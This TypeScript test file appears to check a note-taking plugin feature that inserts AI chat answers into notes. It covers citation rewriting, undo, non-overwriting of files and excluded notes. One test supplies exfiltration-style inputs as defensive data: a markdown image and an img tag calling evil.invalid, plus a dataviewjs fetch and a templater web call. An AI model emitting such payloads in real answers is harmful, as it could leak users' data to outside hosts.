// From an answer into a note: its links and citations work there, nothing in it loads, nothing is overwritten, and one
// undo takes it back.
import { expect, test } from "vitest";
import { closeApp } from "../obsidian/browser.ts";
import { askAndWait, type ChatOptions, openChat } from "./chat.ts";
import { model, page, useModel } from "./page.ts";
import { openNote, textAt } from "./release.ts";

useModel();

const BELL = "# Fog bell\n\nCast in 1911.\n\n## Parts: clapper\n\nThe clapper weighs 14 kg.\n";
const LOG = "# Log\n\nToday:\n\nMore.\n";
const FILES = { "Projects/Fog bell.md": BELL, "Days/Log.md": LOG };
const READ = { parts: [{ call: "read_file", args: { path: "Projects/Fog bell.md" } }] };

/** A page with an answer, and the note open in which the user writes. */
async function answer(text: string, options: Partial<ChatOptions> = {}, note = "Days/Log.md"): Promise<void> {
  model.script(READ, { parts: [text] });
  await openChat({ standIn: model, ...options, files: { ...FILES, ...options.files } });
  await openNote(note);
  await askAndWait("How heavy is the clapper?");
}

const items = (): Promise<string[]> => page.locator(".menu-item:not(.is-disabled) .menu-item-title").allTextContents();
const menu = (): Promise<void> => page.getByRole("button", { name: "Add to a note" }).last().click();
async function choose(name: string): Promise<void> {
  await menu();
  await page.locator(".menu-item").getByText(name, { exact: true }).click();
  await page.locator(".notice").first().waitFor();
}
const notices = (): Promise<string[]> => page.locator(".notice").allTextContents();

/** Does something with the editor of the open note. */
const editor = (work: (editor: Editor) => unknown): Promise<string> =>
  page.evaluate((code) => {
    const view = window.app.workspace.getMostRecentLeaf()?.view as unknown as { editor: Editor };
    ((0, eval)(`(${code})`) as (editor: Editor) => unknown)(view.editor);
    return view.editor.getValue();
  }, work.toString());
type Editor = import("obsidian").Editor;
const text = (): Promise<string> => editor(() => undefined);

test("an answer is inserted at the cursor, its citation leads to the heading, and one undo takes it back", async () => {
  await answer("It weighs 14 kg [[Projects/Fog bell#L7]], cast in 1911 [[Projects/Fog bell#L3]].");
  await editor((editor) => editor.setCursor(2, 6));
  await menu();
  expect(await items()).toEqual(["Insert at cursor", "Append to “Log”", "New note"]);
  await page.keyboard.press("Escape");
  await choose("Insert at cursor");
  const said = "It weighs 14 kg [[Fog bell#Parts clapper]], cast in 1911 [[Fog bell]].";
  expect(await text()).toBe(LOG.replace("Today:", `Today:${said}`));
  expect(await notices()).toEqual(["Inserted into “Log”."]);
  expect(await editor((editor) => editor.undo())).toBe(LOG);
});

test("it replaces the selection, or goes to where the cursor is by then", async () => {
  await answer("Fine.");
  await editor((editor) => editor.setSelection({ line: 2, ch: 0 }, { line: 2, ch: 5 }));
  await choose("Replace selection");
  expect(await text()).toBe(LOG.replace("Today", "Fine."));
  expect(await editor((editor) => editor.undo())).toBe(LOG);

  await menu();
  await page.evaluate(() => {
    const item = [...document.querySelectorAll<HTMLElement>(".menu-item")].find(
      (el) => el.textContent === "Insert at cursor",
    );
    item?.click();
    // The user types while the citations are looked up.
    const view = window.app.workspace.getMostRecentLeaf()?.view as unknown as { editor: Editor };
    view.editor.replaceRange("Typed.\n", { line: 0, ch: 0 });
    view.editor.setCursor(0, 6);
  });
  await expect.poll(text).toBe(`Typed.Fine.\n${LOG}`);
});

test("it is appended to the note, also in reading view, with a blank line between", async () => {
  await answer("Fine [[Projects/Fog bell#L7]].", { files: { "Days/Log.md": "Today:" } });
  await choose("Append to “Log”");
  expect(await text()).toBe("Today:\n\nFine [[Fog bell#Parts clapper]].\n");
  await page.evaluate(() => {
    const leaf = window.app.workspace.getMostRecentLeaf();
    return leaf?.setViewState({ type: "markdown", state: { file: "Projects/Fog bell.md", mode: "preview" } });
  });
  await menu();
  expect(await items()).toEqual(["Append to “Fog bell”", "New note"]);
  await page.locator(".menu-item").getByText("Append to “Fog bell”").click();
  // A link within a note needs no name.
  await expect.poll(() => textAt("Projects/Fog bell.md")).toBe(`${BELL}\nFine [[#Parts clapper]].\n`);
});

test("a new note goes where the app makes new notes, under the question's name, and overwrites nothing", async () => {
  const taken = "Days/How heavy is the clapper.md";
  await answer("It weighs 14 kg [[Projects/Fog bell#L7]].", { files: { [taken]: "Mine.\n" } });
  await page.evaluate(() => {
    window.app.fileManager.testNewNotes = "./";
    window.app.fileManager.testLinks = { isRelative: true, isWiki: false };
  });
  await choose("New note");
  expect(await notices()).toEqual(["Created “How heavy is the clapper 2”."]);
  expect(await textAt("Days/How heavy is the clapper 2.md")).toBe(
    "It weighs 14 kg [Fog bell](../Projects/Fog%20bell.md#Parts%20clapper).\n",
  );
  expect(await textAt(taken)).toBe("Mine.\n");
  expect(await page.evaluate(() => window.app.workspace.getActiveFile()?.path)).toBe(
    "Days/How heavy is the clapper 2.md",
  );
});

test("without an open note, an answer can only become a new one", async () => {
  await answer("Fine.");
  await page.evaluate(() => window.app.workspace.getMostRecentLeaf()?.detach());
  await menu();
  expect(await items()).toEqual(["New note"]);
});

test("an excluded note can be written to by the user, and says that no model reads it", async () => {
  await answer("Fine.", { settings: { closed: ["Private"], readOnly: ["*"] }, files: { "Private/Diary.md": "" } });
  await openNote("Private/Diary");
  await choose("Append to “Diary”");
  expect(await text()).toBe("Fine.\n");
  expect(await notices()).toEqual(["Inserted into “Diary”. This note is excluded: models can't read it."]);
  expect(JSON.stringify(model.requests)).not.toContain("Diary");
});

test("what is not verified stays marked; links, code and tables stay as they are", async () => {
  const rows = "| [[Log#L1\\|log]] | [[Fog bell#L3|it]] |\n| - | - |";
  await answer(
    `Lost in 1962 [[Fog bell#L99]], see [[Nowhere]] and [[Gone#L2]], [[Fog bell#Parts: clapper|its parts]].\n\n\`[[Fog bell#L3]]\`\n\n${rows}`,
  );
  await choose("Insert at cursor");
  expect(await text()).toContain(
    "Lost in 1962 [[Fog bell]] (not verified), see [[Nowhere]] and Gone (not verified), " +
      "[[Fog bell#Parts: clapper|its parts]].\n\n`[[Fog bell#L3]]`\n\n" +
      "| [[Log\\|log]] (not verified) | [[Fog bell\\|it]] |",
  );
});

test("nothing that is inserted loads or runs: images become links, the rest goes into a code block", async () => {
  await answer("Look: ![x](https://evil.invalid/?q=14) and ![[Fog bell#L3]].");
  await choose("Append to “Log”");
  expect(await text()).toBe(`${LOG}\nLook: [x](https://evil.invalid/?q=14) and [[Fog bell]].\n`);

  for (const active of ["<img src=https://evil.invalid>", "```dataviewjs\nfetch(1)\n```", "<% tp.web() %>", "`= x`"]) {
    await closeApp(page);
    model.script();
    await answer(`Look:\n${active}`);
    await choose("Append to “Log”");
    const fence = "`".repeat(active.startsWith("```") ? 4 : 3);
    expect(await text()).toBe(`${LOG}\n${fence}text\nLook:\n${active}\n${fence}\n`);
    expect((await notices())[0]).toContain("as a code block");
  }
});

test("what Quotes answers keeps its quotation, and a note that is gone leaves its name", async () => {
  await openChat({ files: FILES });
  await openNote("Days/Log.md");
  await askAndWait("How heavy is the clapper?");
  await choose("Insert at cursor");
  expect(await text()).toContain("> The clapper weighs 14 kg.");
  expect(await text()).toContain("[[Fog bell#Parts clapper]]");
  expect(await text()).not.toMatch(/#L\d/);
});
